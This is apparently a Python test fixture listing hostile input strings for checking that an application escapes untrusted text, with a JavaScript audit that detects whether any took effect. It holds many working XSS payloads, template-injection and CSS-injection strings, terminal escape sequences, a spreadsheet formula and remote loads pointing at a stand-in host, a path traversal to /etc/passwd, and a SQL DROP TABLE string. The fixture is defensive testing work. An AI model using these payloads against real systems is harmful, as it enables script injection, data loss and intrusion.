"""Texts as an attacker writes them, wherever text comes from: the API, a prompt, a file.

Each kind says of itself whether it has worked: what is markup leaves `pwned` somewhere in the page
(a variable, the title, an element, an attribute, a request), what is a template becomes 1337.
`AUDIT` looks for that in a page.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "pwned"
SET: Final = "window.__pwned=1"
"""Code that leaves its trace; without quotes or blanks, so that it fits in anywhere."""
FAR: Final = "https://pwned.example"
SUM: Final = "7*191"
"""What a template engine makes 1337 of."""

MARKUP: Final[dict[str, str]] = {
    "script": f"<script>{SET}</script>",
    "script in capitals": f"<ScRiPt>{SET}</sCrIpT>",
    "script from far": f"<script src={FAR}/x.js></script>",
    "module": f"<script type=module id=pwned>{SET}</script>",
    "out of a script": f"</script><script>{SET}</script>",
    "image": f"<img src=x id=pwned onerror={SET}>",
    "image with slashes": f"<img/src=x/id=pwned/onerror={SET}>",
    "image with a line": f"<img\nsrc=x\tid=pwned\nonerror={SET}\n>",
    "image unclosed": f"<img src=x id=pwned onerror={SET} ",
    "image from far": f"<img id=pwned src={FAR}/x.png>",
    "image with a set": f'<img id=pwned srcset="{FAR}/x.png 1x">',
    "picture": f'<picture><source srcset="{FAR}/x.png"><img id=pwned></picture>',
    "svg": f"<svg id=pwned onload={SET}>",
    "svg script": f"<svg id=pwned><script>{SET}</script></svg>",
    "svg animate": f"<svg id=pwned><animate onbegin={SET} attributeName=x dur=1s>",
    "svg use": "<svg id=pwned><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "svg link": f"<svg id=pwned><a href='javascript:{SET}'><text y=20>x</text></a></svg>",
    "math": f"<math id=pwned><mtext><style><img onerror={SET}></style></mtext></math>",
    "math link": f"<math id=pwned href='javascript:{SET}'>x</math>",
    "frame": "<iframe id=pwned srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "frame with code": f"<iframe id=pwned src='javascript:parent.{SET[7:]}'></iframe>",
    "frame from far": f"<iframe id=pwned src='{FAR}/'></iframe>",
    "object": "<object id=pwned data='data:text/html,x'></object>",
    "embed": "<embed id=pwned src='data:text/html,x'>",
    "frame that is loaded": f"<iframe id=pwned onload={SET}></iframe>",
    "details": f"<details id=pwned open ontoggle={SET}>x</details>",
    "focus": f"<input id=pwned autofocus onfocus={SET}>",
    "select": f"<select id=pwned autofocus onfocus={SET}>",
    "video": f"<video id=pwned><source onerror={SET}></video>",
    "audio": f"<audio id=pwned src=x onerror={SET}></audio>",
    "marquee": f"<marquee id=pwned onstart={SET}>x</marquee>",
    "dialog": f"<dialog id=pwned open onfocus={SET}>x</dialog>",
    "popover": f"<button id=pwned popovertarget=x>x</button><p popover id=x ontoggle={SET}>",
    "animation": "<style>@keyframes pwned{}</style>"
    f"<b style=animation:pwned onanimationstart={SET}>",
    "link": f"<a id=pwned href='javascript:{SET}'>x</a>",
    "link in entities": f"<a id=pwned href='&#106;avascript&colon;{SET}'>x</a>",
    "base": f"<base id=pwned href='{FAR}/'>",
    "meta": f"<meta id=pwned http-equiv=refresh content='0;url={FAR}/'>",
    "style sheet": f"<link id=pwned rel=stylesheet href='{FAR}/x.css'>",
    "style": f"<style>*{{--pwned:1;background:url({FAR}/x.png)}}</style>",
    "form": f"<form id=pwned action='{FAR}/'><button>x</button></form>",
    "button": "<button id=pwned formaction='javascript:1'>x</button>",
    "template": f"<template id=pwned shadowrootmode=open><img onerror={SET}></template>",
    "custom element": "<x-pwned>x</x-pwned>",
    "isindex": f"<isindex id=pwned type=image src=1 onerror={SET}>",
    "noscript": f"<noscript><p title='</noscript><img src=x id=pwned onerror={SET}>'>",
    "xmp": f"<xmp><p title='</xmp><img src=x id=pwned onerror={SET}>'>",
    "comment": "<!-- pwned: a comment that never ends",
    "out of a comment": f"--><img src=x id=pwned onerror={SET}><!--",
    "out of a section": f"]]><img src=x id=pwned onerror={SET}><![CDATA[",
    "out of a title": f"</title><img src=x id=pwned onerror={SET}>",
    "out of a style": f"</style><img src=x id=pwned onerror={SET}>",
    "out of a field": f"</textarea><img src=x id=pwned onerror={SET}>",
    "out of the box": "</div></div></div></div></main></body><h1 id=pwned>out</h1>",
    "out of a table": f"</td></tr></table><img src=x id=pwned onerror={SET}>",
    "out of code": f"</code></pre><img src=x id=pwned onerror={SET}>",
    "out of double quotes": f'"><img src=x id=pwned onerror={SET}>',
    "out of single quotes": f"'><img src=x id=pwned onerror={SET}>",
    "a handler, double": f'x" id="pwned" onerror="{SET}" src="x',
    "a handler, single": f"x' id='pwned' onerror='{SET}' src='x",
    "a handler, bare": f"x id=pwned onerror={SET} src=x y",
    "a handler, after a line": f'x"\nid="pwned"\nonerror="{SET}"\nsrc="x',
    "a style, double": f'x" style="--pwned:1;background:url({FAR}/x.png)',
    "nul in a tag": f"<scr\0ipt>{SET}</scr\0ipt><img\0 src=x id=pwned onerror={SET}>",
    "entity of a bracket": f"&lt;img src=x id=pwned onerror={SET}&gt;<b id=pwned>",
    "overlong": "<b>" * 3000 + f"<img src=x id=pwned onerror={SET}>",
    "mutation": f"<noscript><style></noscript><img src=x id=pwned onerror={SET}></style>",
    "namespace": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=x id=pwned onerror={SET}&gt;'>"
    ),
    "from one to the next": "<img src=x id=pwned alt='",
}
"""What does something where it stands as it is, in an element or in an attribute."""

TEXT: Final[dict[str, str]] = {
    "a link of code": f"javascript:{SET}",
    "a link of code, hidden": f"\x01java\tscript\n:{SET}",
    "a link of a page": f"data:text/html,<script>{SET}</script>",
    "an old link of code": f"vbscript:{SET}",
    "a link": f"{FAR}/click?x=1&y=2",
    "markdown link": f"[x](javascript:{SET}) ![y]({FAR}/x.png)",
    "markdown, html": f"**x**\n\n<b id=pwned onclick={SET}>x</b>\n\n> quote\n\n# head",
    "markdown, fence": f"```\n</code></pre><img src=x id=pwned onerror={SET}>\n```",
    "formula": rf"$\href{{javascript:{SET}}}{{pwned}}$",
    "formula, display": rf"$$\require{{html}}\href{{javascript:{SET}}}{{pwned}} x^2$$",
    "formula, brackets": r"\(x^2\) \[\sqrt{x}\] \begin{equation}x^2\end{equation}",
    "formula, unicode": rf"$\unicode{{x3c}}\unicode{{<img id=pwned onerror={SET}>}}$",
    "formula, style": rf"$\style{{background:url({FAR}/x.png)}}{{x}}\cssId{{pwned}}{{x}}$",
    "double braces": f"{{{{{SUM}}}}} {{{{constructor.constructor('{SET}')()}}}} {{% raw %}}",
    "dollar braces": f"${{{SUM}}} `${{{SET}}}` ${{7}}",
    "back quotes": f"`);{SET};(`",
    "out of a string": f"');{SET};('",
    "out of a string, double": f'");{SET};("',
    "out of a string, escaped": f"\\');{SET};//",
    "a line of code": f"\u2028{SET}\u2029{SET}",
    "other templates": f"<%= {SUM} %> #{{{SUM}}} {{{SUM}}} ${{{{{SUM}}}}} @({SUM})",
    "a format": "{0.__class__.__mro__} {self} {} {0} {card.prompt!r} {x:>{y}}",
    "a per cent format": "%s %d %(prompt)s %n %% %x",
    "css": f"red;background:url({FAR}/x.png);--pwned:1}}*{{--pwned:1",
    "css expression": f"expression({SET})",
    "css import": f"@import '{FAR}/x.css';",
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1b]0;pwned\x07 \x9b31m",
    "terminal link": f"\x1b]8;;{FAR}/\x1b\\click\x1b]8;;\x1b\\",
    "terminal answer": "\x1b[6n\x1b[c\x1b]52;c;cHduZWQ=\x07\x1bP+q544e\x1b\\",
    "carriage return": "harmless\rpwned\b\b\b\b\x7f\x0b\x0c\x85",
    "more lines": "one\nIn [1]: pwned\r\n\n\nOut[1]: 5",
    "right to left": "photo_\u202egnp.exe\u202c \u2066a\u2069 \u200f\u200e\u061c",
    "isolates unclosed": "\u2067\u2067\u2067 \u202d\u202d\u202a\u202b end",
    "nothing to see": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00ad",
    "tags of unicode": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in MARK),
    "nul": "\0\0 a\0b \x01\x02\x03\x1f",
    "half a pair": "\ud83d and \udc00 \udfff\ud800",
    "wide brackets": f"＜script＞{SET}＜/script＞ ‹img› ﹤b﹥",
    "combining": "a" + "\u0301\u0489" * 400,
    "entities": "&lt;script&gt; &#60;b&#62; &amp;lt; &NotEqualTilde; &#x0; &#1114112;",
    "quotes": "'\"`´‘’“”«»\\' \\\" ",
    "brackets": "<>&<><><<>>&&;</>",
    "a formula of a table": '=HYPERLINK("https://pwned.example";"x")',
    "another of a table": "@SUM(1) +1 -1 \t=1",
    "a path": "../../../../etc/passwd\\..\\..\\x C:\\x /abs ~root",
    "blanks": " \t\n \xa0\u3000 ",
    "json": '", "prompt": "pwned", "x": "',
    "sql": "'); DROP TABLE task; --",
}
"""What is to arrive as the words that it is, and to steer nothing."""

HOSTILE: Final = MARKUP | TEXT
MEGABYTE: Final = f"<img src=x id=pwned onerror={SET}> " * 25_000
"""More than anybody wants to see; cleaning it in every field of every view would take a minute."""
UNSEEN: Final = frozenset(
    chr(code)
    for first, last in (
        (0x00, 0x1F), (0x7F, 0x9F), (0x61C, 0x61C), (0x200B, 0x200B), (0x200E, 0x200F),
        (0x2028, 0x202E), (0x2060, 0x2069), (0xFEFF, 0xFEFF), (0xD800, 0xDFFF),
    )
    for code in range(first, last + 1)
)  # fmt: skip
"""Characters that steer a terminal, turn a line around, or cannot be seen or sent. The joiners
U+200C and U+200D are letters' own: families of emoji and Persian words are made with them."""

AUDIT: Final = r"""() => {
  const found = [];
  if (window.__pwned) found.push('code has run');
  if (document.title.includes('pwned')) found.push('title: ' + document.title);
  const words = new Set(['alt', 'title', 'aria-label', 'value', 'placeholder', 'content']);
  const look = root => {
    const kinds = NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT;
    const walker = document.createTreeWalker(root, kinds);
    for (let node = walker.currentNode; node; node = walker.nextNode()) {
      if (node.nodeType === Node.COMMENT_NODE) {
        if (node.data.includes('pwned')) found.push('comment: ' + node.data.slice(0, 60));
        continue;
      }
      const tag = node.localName || '';
      if (tag.includes('pwned')) found.push('element: ' + tag);
      if (tag === 'style' && node.textContent.includes('pwned')) found.push('style sheet');
      for (const {name, value} of node.attributes || []) {
        if (name.includes('pwned')) found.push(`<${tag} ${name}>`);
        if (value.includes('pwned') && !(words.has(name) && tag !== 'meta')) {
          found.push(`<${tag} ${name}="${value.slice(0, 60)}">`);
        }
      }
      if (node.shadowRoot) look(node.shadowRoot);
    }
  };
  look(document);
  return found;
}"""
"""What of a hostile text has worked in this page; nothing, if all is as it should be."""


def storable() -> dict[str, str]:
    """Those that a prompt can be: not empty, not too long, without half of a surrogate pair."""
    found = {
        kind: text.encode("utf-8", "replace").decode()[:5000] for kind, text in HOSTILE.items()
    }
    return {kind: text for kind, text in found.items() if text.strip()}
